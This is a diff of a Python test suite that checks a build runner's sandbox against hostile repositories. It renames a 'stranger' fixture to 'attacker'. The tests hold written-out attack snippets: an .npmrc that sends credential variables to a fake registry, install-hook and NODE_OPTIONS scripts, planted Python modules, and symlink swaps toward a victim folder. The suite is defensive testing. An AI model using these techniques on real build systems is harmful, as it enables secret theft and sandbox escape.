@@ -1,4 +1,4 @@
-"""What a stranger tells npm, where Python looks for modules, and the folders of the runner: none of it leads to the runner."""
+"""What an attacker tells npm, where Python looks for modules, and the folders of the runner: none of it leads to the runner."""
 
 from __future__ import annotations
 
@@ -22,8 +22,8 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from harness import PLAIN
-from stranger import PERSON, PersonsProgram, Stranger, as_person
+from support.attacker import PERSON, Attacker, PersonsProgram, as_person
+from support.harness import PLAIN
 
 SECRET = "npm_Qk7Rw2Zt9Lx4Vb1Nc8Md3Pf6"
 MADE = "\nmkdir -p dist; echo 1 >dist/index.html"
@@ -44,7 +44,7 @@ echo "$1|$(id -u)|$capabilities|$privileges|$outside|$names" >>"$HOME/../reposit
 
 
 class Registry:
-    """A registry of a stranger's, which keeps what it was asked and with which headers."""
+    """A registry of an attacker's, which keeps what it was asked and with which headers."""
 
     def __init__(self, origin: str, package: bytes) -> None:
         self.origin = origin
@@ -90,7 +90,7 @@ def registry(host: str) -> Iterator[Registry]:
             thread.join()
 
 
-def test_what_a_repository_tells_npm_gets_no_secret_and_runs_as_nobody_but_the_builds_user(stranger: Stranger) -> None:
+def test_what_a_repository_tells_npm_gets_no_secret_and_runs_as_nobody_but_the_builds_user(attacker: Attacker) -> None:
     names = [
         "AWS_ACCESS_KEY_ID",
         "AWS_SECRET_ACCESS_KEY",
@@ -100,7 +100,7 @@ def test_what_a_repository_tells_npm_gets_no_secret_and_runs_as_nobody_but_the_b
     ]
     names += ["INSTALL_ENV_NPM_TOKEN", "ECS_CONTAINER_METADATA_URI_V4", "REPO_URL"]
     app = "${HOME}/../repository"
-    with registry(str(urlsplit(stranger.program.s3.endpoint).hostname)) as asked:
+    with registry(str(urlsplit(attacker.program.s3.endpoint).hostname)) as asked:
         npmrc = f"""
 registry={asked.origin}/
 {asked.origin.removeprefix("http:")}/:_authToken=token.{".".join(f"${{{name}}}" for name in names)}
@@ -128,7 +128,7 @@ loglevel=http
             "require('child_process').spawnSync('/bin/sh', [__dirname + '/look.sh', 'node-options'],"
             " { env: { ...process.env, NODE_OPTIONS: '' } })\n"
         )
-        path = stranger.repositories.app(
+        path = attacker.repositories.app(
             f"sh ./look.sh build; node -e 0{MADE}; cp seen dist/seen",
             **{
                 ".npmrc": npmrc,
@@ -144,12 +144,12 @@ loglevel=http
             program = path / f"evil-{name}.sh"
             program.write_text(f'#!/bin/sh\nsh "$HOME/../repository/look.sh" {name}\nexec /bin/sh "$@"\n')
             program.chmod(0o755)
-        stranger.repositories.commit(path, {})
+        attacker.repositories.commit(path, {})
         variables: dict[str, Any] = {"GIT_TOKEN": SECRET, "INSTALL_ENV_NPM_TOKEN": SECRET, "BUILD_ENV_PUBLIC": "1"}
 
-        run = stranger.program.run(stranger.url(path), **variables)
+        run = attacker.program.run(attacker.url(path), **variables)
 
-        given = stranger.program.environment(None, **variables)
+        given = attacker.program.environment(None, **variables)
         assert run.code == 0, run.stdout[-3000:]
         assert any(path.endswith(".tgz") for path, _ in asked.requests)
         assert any("authorization" in headers for _, headers in asked.requests)
@@ -161,7 +161,7 @@ loglevel=http
             # npm sends the name of a variable that there is not.
             assert "authorization" not in headers or "${AWS_SECRET_ACCESS_KEY}" in headers["authorization"]
 
-    seen = [line.split("|") for line in stranger.site(run)["seen"]["body"].decode().splitlines()]
+    seen = [line.split("|") for line in attacker.site(run)["seen"]["body"].decode().splitlines()]
     hooks = {"preinstall", "install", "postinstall", "prepare", "prebuild", "build"}
     assert hooks | {"shell", "node-options", "dependency-postinstall"} <= {line[0] for line in seen}
     for who, uid, capabilities, privileges, outside, environment in seen:
@@ -170,13 +170,13 @@ loglevel=http
         assert not [key for key in keys if key.startswith(("AWS_", "ECS_", "BUILD_ENV_", "INSTALL_ENV_", "GIT_"))], who
         assert SECRET not in environment
         assert privileges == "1", who
-        if stranger.is_another_user:
+        if attacker.is_another_user:
             assert int(uid) not in {0, os.geteuid()}, who
             assert int(capabilities, 16) == 0
             assert outside == "refused"
         else:  # without root the build is the runner's own user, and the folder above is that user's
             assert outside == "written"
-    assert SECRET not in stranger.all_that_left(run)
+    assert SECRET not in attacker.all_that_left(run)
 
 
 # --- where Python looks for modules -----------------------------------------------------------------------------
@@ -201,12 +201,12 @@ def evil_module(name: str) -> str:
 
 
 def test_modules_that_a_build_leaves_where_it_can_write_are_never_imported_and_the_runners_path_is_closed(
-    stranger: Stranger,
+    attacker: Attacker,
 ) -> None:
     modules = {f"{name}.py": evil_module(name) for name in (*MODULES[:2], *MODULES[3:], *STANDARD)}
-    modules |= {f"{name}/__init__.py": evil_module(name) for name in ("redis", "buildrunner", "buildrunner/site")}
+    modules |= {f"{name}/__init__.py": evil_module(name) for name in ("redis", "buildrunner", "buildrunner/s3")}
     modules["evil.pth"] = "import os; os.write(2, b'IMPORTED by a path file\\n')\n"
-    in_image = stranger.place == "in the image"
+    in_image = attacker.place == "in the image"
     attack = r"""
 const fs = require('fs'), path = require('path');
 const { modules, closed, tmp } = JSON.parse(fs.readFileSync('attack.json'));
@@ -256,13 +256,13 @@ for (const folder of closed.flatMap(listed)) {
         closed = sorted({str(place.resolve()) for place in places if place.is_dir() and place.name != "tests"})
     given = json.dumps({"modules": modules, "closed": closed, "tmp": in_image})
 
-    run = stranger.build("node attack.js" + MADE, {"attack.js": attack, "attack.json": given})
+    run = attacker.build("node attack.js" + MADE, {"attack.js": attack, "attack.json": given})
 
     assert run.code == 0, run.stdout + run.stderr
     assert "IMPORTED" not in run.stdout + run.stderr
     answers = [line.split()[1:] for line in run.lines if line.startswith("closed? ")]
     assert len(answers) >= len(closed)
-    if stranger.is_another_user or os.geteuid() == 0:
+    if attacker.is_another_user or os.geteuid() == 0:
         assert [folder for folder, answer in answers if answer == "WRITTEN"] == []
     else:  # without root the runner's own folders are the build's user's: nothing holds there
         assert {folder for folder, answer in answers if answer == "WRITTEN"} <= {
@@ -270,8 +270,8 @@ for (const folder of closed.flatMap(listed)) {
         }
 
 
-def test_the_working_directory_is_no_import_path_of_the_runner(stranger: Stranger, open_folder: Path) -> None:
-    if stranger.place == "in the image":
+def test_the_working_directory_is_no_import_path_of_the_runner(attacker: Attacker, open_folder: Path) -> None:
+    if attacker.place == "in the image":
         pytest.skip("the image's entry point has -I, and its working directory is closed to builds")
     folder = open_folder / f"cwd-{uuid.uuid4().hex}"
     folder.mkdir()
@@ -281,9 +281,9 @@ def test_the_working_directory_is_no_import_path_of_the_runner(stranger: Strange
     for name in STANDARD:
         (folder / f"{name}.py").write_text(evil_module(name))
     command = [sys.executable, "-m", "buildrunner"]
-    if isinstance(stranger.program, PersonsProgram) and os.geteuid() == 0:
+    if isinstance(attacker.program, PersonsProgram) and os.geteuid() == 0:
         command = [*as_person(), *command]
-    environment = stranger.program.environment(stranger.push("true" + MADE), **PLAIN)
+    environment = attacker.program.environment(attacker.push("true" + MADE), **PLAIN)
 
     done = subprocess.run(command, env=environment, cwd=folder, capture_output=True, text=True, check=False, timeout=90)
 
@@ -315,8 +315,8 @@ console.log(`name: ${root}`);
 """
 
 
-def test_the_runners_own_files_are_closed_to_the_build_and_no_name_can_be_guessed(stranger: Stranger) -> None:
-    runs = [stranger.build("node attack.js" + MADE, {"attack.js": TOUCH}) for _ in range(2)]
+def test_the_runners_own_files_are_closed_to_the_build_and_no_name_can_be_guessed(attacker: Attacker) -> None:
+    runs = [attacker.build("node attack.js" + MADE, {"attack.js": TOUCH}) for _ in range(2)]
 
     names = []
     for run in runs:
@@ -325,7 +325,7 @@ def test_the_runners_own_files_are_closed_to_the_build_and_no_name_can_be_guesse
         assert answers.pop("mode") == "755"  # its names tell nothing, and Storybook reads every folder above its own
         names.append(answers.pop("name"))
         assert len(answers) == 7
-        if stranger.is_another_user:
+        if attacker.is_another_user:
             assert set(answers.values()) <= {"EACCES", "EPERM"}, answers
         else:  # without root the runner's files are those of the build's user
             assert answers["read the journal"] == answers["write the configuration of git"] == "done"
@@ -333,16 +333,16 @@ def test_the_runners_own_files_are_closed_to_the_build_and_no_name_can_be_guesse
     assert all(len(Path(name).name) >= len("buildrunner-") + 8 for name in names)
 
 
-def victim_of(stranger: Stranger, open_folder: Path) -> tuple[str, str]:
+def victim_of(attacker: Attacker, open_folder: Path) -> tuple[str, str]:
     """Give a folder that is not the build's to read, and the name of a folder in it."""
-    if stranger.place == "in the image":
+    if attacker.place == "in the image":
         return "/opt/buildrunner", "app"
     victim = open_folder / f"victim-{uuid.uuid4().hex}"
     (victim / "private-name" / "below").mkdir(parents=True)
     (victim / "private-name" / "index.html").write_text("precious")
     (victim / "private-name" / "below" / "file").write_text("precious")
     victim.chmod(0o700)
-    if not stranger.is_another_user and os.geteuid() == 0:
+    if not attacker.is_another_user and os.geteuid() == 0:
         person = pwd.getpwnam(PERSON)
         for place in (victim, *victim.rglob("*")):
             os.chown(place, person.pw_uid, person.pw_gid)
@@ -357,28 +357,28 @@ def state_of(folder: str) -> list[tuple[Any, ...]]:
 
 
 def test_links_in_place_of_the_workspaces_folders_lead_the_runner_nowhere(
-    stranger: Stranger, open_folder: Path
+    attacker: Attacker, open_folder: Path
 ) -> None:
-    victim, name = victim_of(stranger, open_folder)
-    before = state_of(victim) if stranger.place != "in the image" else []
+    victim, name = victim_of(attacker, open_folder)
+    before = state_of(victim) if attacker.place != "in the image" else []
     swap = f"cd ..; for folder in repository home tmp; do mv $folder old-$folder; ln -s {victim} $folder; done"
 
     for output in (name, ".", "nowhere"):
-        run = stranger.build(swap, OUTPUT_DIR=output)
+        run = attacker.build(swap, OUTPUT_DIR=output)
 
         assert run.code == 40, (output, run.stdout)
-        assert stranger.site(run) == {}
-        assert "precious" not in stranger.all_that_left(run)
+        assert attacker.site(run) == {}
+        assert "precious" not in attacker.all_that_left(run)
         # Not even what there is in it may be told.
         assert "private-name" not in str(run.result) or output == name, run.result
         assert "Folders with pages: " not in run.result.get("hint", ""), run.result
         assert "Traceback" not in run.stderr
-    if stranger.place != "in the image":
+    if attacker.place != "in the image":
         assert state_of(victim) == before
 
 
-def test_nothing_is_left_of_a_workspace_that_resists(stranger: Stranger, open_folder: Path) -> None:
-    if stranger.place == "in the image":
+def test_nothing_is_left_of_a_workspace_that_resists(attacker: Attacker, open_folder: Path) -> None:
+    if attacker.place == "in the image":
         pytest.skip("a container's disk goes with it; nothing is deleted there")
     temporary = open_folder / f"tmp-{uuid.uuid4().hex}"
     temporary.mkdir()
@@ -392,7 +392,7 @@ fs.chmodSync('../home/closed', 0);
 fs.writeFileSync(Buffer.from([0x2e, 0x2e, 0x2f, 0xff, 0x0a]), 'x');
 for (let depth = 0; depth < 3000; depth++) { fs.mkdirSync('d'); process.chdir('d'); }
 """
-    run = stranger.build(
+    run = attacker.build(
         "mkdir dist; echo 1 >dist/index.html; node attack.js", {"attack.js": resist}, TMPDIR=str(temporary)
     )
 
